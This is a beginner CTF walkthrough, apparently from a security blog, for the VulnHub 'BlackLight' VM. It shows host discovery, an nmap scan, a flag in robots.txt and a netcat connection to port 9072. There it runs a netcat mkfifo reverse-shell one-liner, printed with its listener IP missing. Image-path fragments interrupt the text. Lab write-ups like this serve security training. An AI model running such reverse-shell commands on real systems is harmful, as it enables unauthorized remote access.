BlackLight – VulnHub CTF Challenge Walkthrough

Blacklight is a beginner level CTF challenge. The VM is available at VulnHub. This challenge is very easy and short as compared to other VulnHub Challenges.

Import the VM into the Virtualbox and turn on.

Use netdiscover to determine the IP of the machine

sudo netdiscover -i wlan0 -r


Now, edit your “/etc/hosts” file to register this IP into your local DNS.

sudo nano /etc/hostsRun a full port Nmap Scan.

nmap -p- bl.local


There is a HTTP Server running and an unknown port open. First, Check the HTTP Server.


The source code of the default webpage reveals nothing, let’s check “robots.txt”.“robots.txt” reveals our first flag plus a hint pointing at the port 9072 that we previously discovered using Nmap. Now, let’s connect to that port using Netcat.

nc -v bl.local 9072


“.help” reveals that we can execute a command in the shell, let’s execute our Netcat reverse shell from PentestMonkey. Start a Netcat listener

nc -nlvp 1234

and then execute the followingreverse shell.

.exec `rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1234 >/tmp/f`


We got our reverse shell executed.


Want to learn more about ethical hacking?

We have a  networking hacking course that is of a similar level to OSCP, get an exclusive 95% discount HERE

Related posts

Study Reveals WiFi Protocol Vulnerability Exposing Network Traffic

Microsoft Rolls Out Security Copilot For Swift Incident Response

ChatGPTVulnerability Exposed Users’ Convos And Payment Details